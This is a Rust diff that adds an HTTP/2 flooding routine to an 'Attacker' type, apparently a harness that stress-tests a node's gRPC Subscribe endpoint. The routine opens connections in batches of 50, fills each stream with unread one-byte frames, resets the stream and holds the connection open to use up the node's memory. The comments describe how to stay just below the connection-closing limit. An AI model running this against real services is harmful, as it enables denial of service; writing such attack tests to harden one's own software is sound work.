@@ -335,6 +335,45 @@ impl Attacker {
         sleep(HOLD).await;
     }
 
+    /// Opens connections that each have a stream of requests whose answers wait, fill it with frames of one byte, give
+    /// the stream up, and stay open: some at once, because a stream that is not read is charged for its window.
+    pub(crate) async fn unread_frames(&self, connections: usize) {
+        use api::subscribe_request::v1::Request;
+        use api::subscribe_request::{V1, Version};
+        const AT_ONCE: usize = 50;
+        let ping = Request::Ping(api::Ping { nonce: 1 });
+        let version = Some(Version::V1(V1 { request: Some(ping) }));
+        let ping = raw::grpc_message(&api::SubscribeRequest { version }.encode_to_vec());
+        let path = format!("{QUERY_API}/Subscribe");
+        // The node takes some of these pings, reads 64 KiB ahead, and then no more.
+        let pings = ping.repeat(160 * 1024 / ping.len());
+        let call: Arc<[u8]> = raw::http2_request_without_end(&path, &pings, 1).into();
+        // With a few more of them, the library would end the connection.
+        let frames: Arc<[u8]> = raw::http2_frame(0, 0, 1, &[0]).repeat(4050).into();
+        let mut open = Vec::new();
+        for _ in 0..connections / AT_ONCE {
+            let mut floods = JoinSet::new();
+            for _ in 0..AT_ONCE {
+                let (attacker, call, frames) = (self.clone(), call.clone(), frames.clone());
+                floods.spawn(async move { attacker.unread_stream(&call, &frames).await });
+            }
+            open.extend(floods.join_all().await);
+        }
+        sleep(HOLD).await;
+    }
+
+    /// Begins a call, sends more frames once the node reads no further ones, and gives the call up.
+    async fn unread_stream(&self, call: &[u8], frames: &[u8]) -> Option<TcpStream> {
+        let mut stream = self.send(&raw::http2_preface_with_empty_windows()).await?;
+        // The node's settings come with the connection's window.
+        let _ = timeout(EXCHANGE, stream.read(&mut [0; 1024])).await;
+        for bytes in [call, frames, &raw::http2_frame(3, 0, 1, &[0, 0, 0, 8])] {
+            let _ = timeout(EXCHANGE, stream.write_all(bytes)).await;
+            sleep(Duration::from_millis(500)).await;
+        }
+        Some(stream)
+    }
+
     pub(crate) async fn registrations(&self) {
         let filter = |number: u32| {
             let mut topic = vec![0; 33];
